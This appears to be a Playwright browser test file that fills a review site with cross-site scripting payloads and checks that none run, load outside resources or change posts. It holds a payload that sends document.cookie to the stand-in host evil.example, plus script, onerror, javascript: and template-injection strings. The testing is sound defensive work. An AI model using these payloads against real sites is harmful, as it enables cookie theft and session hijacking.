"""Posts, values and quotes that mean harm, in Chromium: nothing runs, nothing is loaded, nothing is written unasked."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from web.site import CONFIG, Served, fill, post, proposal, quote, served, small

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Dialog, Page

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUN = "document.title='owned';window.owned=1;fetch('https://evil.example/'+document.cookie)"
ATTACKS = (
    f"<script>{RUN}</script>",
    f'<img src="https://evil.example/x.png" onerror="{RUN}">',
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><use href='https://evil.example/#x'/></svg>",
    f"<iframe src=\"javascript:{RUN}\"></iframe><object data='https://evil.example/'></object>",
    f'<a href="javascript:{RUN}" id=link>x</a><form action="/write" method=post><button>y</button></form>',
    "<style>@import url(https://evil.example/);*{background:url(https://evil.example/)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='https://evil.example/'>",
    f"![x](https://evil.example/y.png) [z](javascript:{RUN}) <https://evil.example/>",
    f"</script></title></textarea></style></template><script>{RUN}</script>",
    f"{{{{ 7 * 7 }}}} ${{{RUN}}} {{% raw %}}",
    "\u202etxt.exe\u2066\u200b\ufeff and \x1b]52;c;aGk=\x07",
)
ALL = " ".join(ATTACKS)
VISIBLE = " ".join(ATTACKS[:-1])
TITLE = VISIBLE.replace("'", "''")
PATH = "a<img src=x onerror=alert(1)>\u202e'\"&.md"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A review of a site whose path, title, body, values and quotes are attacks, and of a body of 10 MB."""
    root = small(tmp_path_factory.mktemp("hostile"))
    (root / "enrich.toml").write_text(CONFIG.replace("max_chars = 60", "max_chars = 9000"), encoding="utf-8")
    body = "\n\n".join(ATTACKS)
    (root / PATH).write_text(post(f"'{TITLE}'", f"{body}\n"), encoding="utf-8")
    (root / "long.md").write_text(post("Long", f"{ATTACKS[1]} word " * 60_000), encoding="utf-8")
    evidence = (quote(ATTACKS[0], ATTACKS[0], body),)
    values = [
        proposal("summary", VISIBLE, evidence=evidence),
        proposal("tags", list(ATTACKS), []),
        proposal("mood", ALL),
    ]
    fill(root, {PATH: values, "long.md": [proposal("summary", VISIBLE)]}, run="r2")
    with served(root) as made:
        yield made


@pytest.fixture
def page(browser: Browser, hostile: Served) -> Iterator[Page]:
    """A page that has entered; what it loads and what opens is noted, and must be ours alone."""
    context = browser.new_context()
    context.set_default_timeout(30_000)
    loaded: list[str] = []
    opened: list[str] = []
    context.on("request", lambda request: loaded.append(request.url))
    made = context.new_page()

    def dismiss(dialog: Dialog) -> None:
        opened.append(dialog.message)
        dialog.dismiss()

    made.on("dialog", dismiss)
    made.goto(hostile.link)
    made.wait_for_url(f"http://127.0.0.1:{hostile.port}/")
    yield made
    assert opened == []
    assert len(context.pages) == 1
    ours = (f"http://127.0.0.1:{hostile.port}/", "data:", "about:")
    assert [url for url in loaded if not url.startswith(ours)] == []
    context.close()


def _posts(root: Path) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in root.glob("*.md")}


def _go(page: Page, address: str, path: str) -> None:
    """Opens a view for a post, by an address that the browser itself writes."""
    page.evaluate(
        "([address, path]) => { location.href = address + '?' + new URLSearchParams({path, field: 'summary'}) }",
        [address, path],
    )
    page.wait_for_url(f"{address}?*")
    page.wait_for_load_state("networkidle")


@pytest.mark.parametrize("name", [PATH, "long.md", "a.md"])
@pytest.mark.parametrize("target", ["/", "/fields", "/body"])
def test_nothing_runs_and_nothing_is_loaded(page: Page, hostile: Served, target: str, name: str) -> None:
    """No script of a post runs in any view, no request leaves, no dialog opens, and no post changes."""
    before = _posts(hostile.root)
    _go(page, f"http://127.0.0.1:{hostile.port}{target}", name)
    for frame in page.frames:
        assert frame.evaluate("window.owned") is None if frame is page.main_frame else True
        assert frame.locator("script:not([src^='/static/'])").count() == 0
        assert (
            frame.locator("svg script, iframe[src^='javascript'], object, base, meta[http-equiv=refresh]").count() == 0
        )
    assert page.title() != "owned"
    assert name == "a.md" or "evil.example" in page.content()
    assert _posts(hostile.root) == before


def test_keys_and_clicks_on_hostile_words_do_nothing(page: Page, hostile: Served) -> None:
    """A click on what looks like a link or a button of the post neither leaves the page nor writes."""
    before = _posts(hostile.root)
    _go(page, f"http://127.0.0.1:{hostile.port}/", PATH)
    assert page.locator("a[href^='javascript'], a[href*='evil.example'], form[action='/write']").count() == 0
    frames = [frame for frame in page.frames if frame is not page.main_frame]
    assert [frame.locator("a[href], form, button").count() for frame in frames] == [0] * len(frames)
    assert _posts(hostile.root) == before
